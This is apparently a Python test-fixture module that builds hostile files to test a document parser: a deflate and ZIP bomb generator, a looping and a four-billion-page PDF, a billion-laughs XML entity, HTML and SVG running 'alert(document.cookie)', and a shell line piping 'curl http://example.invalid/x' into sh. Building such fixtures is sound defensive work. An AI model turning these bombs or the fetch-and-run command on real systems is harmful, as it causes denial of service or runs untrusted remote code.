"""Sample and hostile documents for ``library.documents``, built in memory at test time.

Used by ``tests/library/test_documents.py`` and ``benchmarks/hostile_documents.py``. PDFs
are written by hand (``pdf``) so that each hostile one is exactly what its name says; pypdf
encrypts, Pillow makes the image-only PDF, ``zipfile`` builds ODT and DOCX files, and
``zip_with_bomb`` writes a ZIP by hand around a deflate stream built without inflating it.
"""

import io
import struct
import zipfile
import zlib

MEGABYTE = 1024 * 1024


# PDF ----------------------------------------------------------------------------------------


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """Return a PDF of ``objects`` (object 1 is the catalogue) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def _escape(text: str) -> bytes:
    raw = text.encode("cp1252")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def text_pdf(*pages: str) -> bytes:
    """Return a PDF of one page per argument, each showing its text (Helvetica, cp1252)."""
    pages = pages or ("Rénovation des quartiers",)
    count = len(pages)
    font = 3 + 2 * count
    kids = b" ".join(b"%d 0 R" % (3 + 2 * i) for i in range(count))
    objects = [CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
    for i, text in enumerate(pages):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (font, 4 + 2 * i)
        )
        objects.append(stream(b"BT /F1 14 Tf 72 760 Td (" + _escape(text) + b") Tj ET"))
    objects.append(FONT)
    return pdf(objects)


def encrypted_pdf(user_password: str) -> bytes:
    """Return ``text_pdf()`` encrypted (AES-256) with this user password and an owner one."""
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(text_pdf())))
    writer.encrypt(user_password=user_password, owner_password="proprietaire", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image_pdf() -> bytes:
    """Return a PDF of one page holding only a picture, as a scanner makes."""
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (600, 848), "white")
    ImageDraw.Draw(image).rectangle((50, 50, 550, 200), fill="navy")
    buffer = io.BytesIO()
    image.save(buffer, "PDF", resolution=72)
    return buffer.getvalue()


def looping_pdf() -> bytes:
    """Return a PDF whose page tree loops: two /Pages nodes, each the other's kid and
    parent."""
    return pdf(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        ]
    )


def billions_of_pages_pdf() -> bytes:
    """Return a PDF of one page whose page tree claims 4,000,000,000."""
    return pdf(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 4000000000 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            stream(b"BT /F1 14 Tf 72 760 Td (Un milliard de pages) Tj ET"),
            FONT,
        ]
    )


def deflate_bomb(megabytes: int, *, raw: bool = False) -> bytes:
    """Return a deflate stream (zlib-wrapped unless ``raw``) that inflates to ``megabytes`` MB
    of zero bytes, built in milliseconds: after a full flush, each megabyte compresses to the
    same bytes, which are repeated; the checksum of zeros is worked out directly."""
    chunk = bytes(MEGABYTE)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15 if raw else 15)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = first + again * (megabytes - 1) + b"\x03\x00"  # an empty, final, fixed block
    if raw:
        return body
    length = megabytes * MEGABYTE
    return body + struct.pack(">I", ((length % 65521) << 16) | 1)  # Adler-32 of zeros


def bomb_pdf(megabytes: int = 1024) -> bytes:
    """Return a PDF whose only page's content stream inflates to ``megabytes`` MB."""
    return pdf(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream(deflate_bomb(megabytes), b"/Filter /FlateDecode "),
        ]
    )


HTML_PDF = b"%PDF-1.7\n<!DOCTYPE html><html><body><script>alert(document.cookie)</script>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)
HTML = b"<!DOCTYPE html>\n<html lang=fr><title>Rapport</title><script>alert(1)</script>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
# The first bytes of a 64-bit Linux program.
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)


# OpenDocument -------------------------------------------------------------------------------

ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
)
ODT_BODY = (
    "<text:h>Rénovation des quartiers</text:h>"
    '<text:p>Une étude<text:s text:c="2"/>du <text:span>centre</text:span>.</text:p>'
    "<table:table><table:table-row><table:table-cell><text:p>Cellule Villeurbanne</text:p>"
    "</table:table-cell></table:table-row></table:table>"
    "<text:tracked-changes><text:changed-region><text:deletion>"
    "<text:p>Passage supprimé</text:p></text:deletion></text:changed-region>"
    "</text:tracked-changes>"
)
ODT_STYLES = (
    "<office:master-styles><style:master-page>"
    "<style:header><text:p>En-tête du rapport</text:p></style:header>"
    "<style:footer><text:p>Pied de page CRPV</text:p></style:footer>"
    "</style:master-page></office:master-styles>"
)


def odf_zip(members: dict[str, bytes], mimetype: bytes) -> bytes:
    """Return an OpenDocument package: ``mimetype`` first and stored, then ``members``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odt(body: str = ODT_BODY, styles: str = ODT_STYLES, *, prolog: bytes = b"", manifest=None):
    """Return an ODT document of ``body`` (text elements) and master ``styles``."""
    content = (
        prolog
        + f"<office:document-content {ODF_NAMESPACES}><office:body><office:text>{body}"
        "</office:text></office:body></office:document-content>".encode()
    )
    members = {
        "content.xml": content,
        "styles.xml": f"<office:document-styles {ODF_NAMESPACES}>{styles}"
        "</office:document-styles>".encode(),
        "META-INF/manifest.xml": manifest
        or b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
        b'manifest:1.0"><manifest:file-entry manifest:full-path="/"/></manifest:manifest>',
    }
    return odf_zip(members, b"application/vnd.oasis.opendocument.text")


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">'
        % (level, (b"&lol%d;" % (level - 1) if level > 2 else b"&lol;") * 10)
        for level in range(2, 10)
    )
    + b"]>"
)


# Office Open XML ----------------------------------------------------------------------------

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OOXML = "application/vnd.openxmlformats-officedocument."
DOCX_BODY = (
    '<w:p><w:pPr><w:tabs><w:tab w:val="left" w:pos="720"/></w:tabs></w:pPr>'
    '<w:r><w:t>Rénovation</w:t></w:r><w:r><w:tab/><w:t xml:space="preserve">des </w:t>'
    "</w:r><w:r><w:t>quartiers</w:t></w:r></w:p>"
    "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Cellule Villeurbanne</w:t></w:r></w:p></w:tc>"
    "<w:tc><w:p><w:r><w:t>Cellule Vaulx-en-Velin</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    "<w:p><w:del><w:r><w:delText>Passage supprimé</w:delText></w:r></w:del>"
    "<w:r><w:t>Fin</w:t></w:r></w:p>"
)


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(body: str = DOCX_BODY, *, main_type: str = OOXML + "wordprocessingml.document.main+xml"):
    """Return a DOCX document of ``body`` (WordprocessingML), with a header and a footer."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        f'<Override PartName="/word/header1.xml" ContentType="{OOXML}wordprocessingml.header+xml"/>'
        f'<Override PartName="/word/footer1.xml" ContentType="{OOXML}wordprocessingml.footer+xml"/>'
        "</Types>"
    )
    members = {
        "[Content_Types].xml": types,
        "_rels/.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>",
        "word/header1.xml": f"<w:hdr {W}>{_paragraph('En-tête du rapport')}</w:hdr>",
        "word/footer1.xml": f"<w:ftr {W}>{_paragraph('Pied de page CRPV')}</w:ftr>",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_with_bomb(document: bytes, member: str, megabytes: int) -> bytes:
    """Return the ZIP ``document`` with ``member`` replaced by ``megabytes`` MB of zeros,
    deflated (to about a thousandth) without being inflated: the archive is written by hand."""
    with zipfile.ZipFile(io.BytesIO(document)) as source:
        members = [(info.filename, source.read(info)) for info in source.infolist()]
    crc = 0
    chunk = bytes(MEGABYTE)
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    out, central = bytearray(), bytearray()
    for name, data in members:
        if name == member:
            compressed, size, member_crc = (
                deflate_bomb(megabytes, raw=True),
                megabytes * MEGABYTE,
                crc,
            )
        else:
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            compressed = compressor.compress(data) + compressor.flush()
            size, member_crc = len(data), zlib.crc32(data)
        encoded = name.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, member_crc, len(compressed), size)
        central += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        central += struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, len(out)) + encoded
        out += b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + compressed
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0
    )
    return bytes(out + central + end)


# OLE2 (Office 97-2003, or an Office file with a password) -----------------------------------

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def ole2(*streams: str) -> bytes:
    """Return the start of an OLE2 file naming ``streams`` in its directory (UTF-16)."""
    return OLE2 + b"".join(name.encode("utf-16-le").ljust(64, b"\x00") for name in streams)
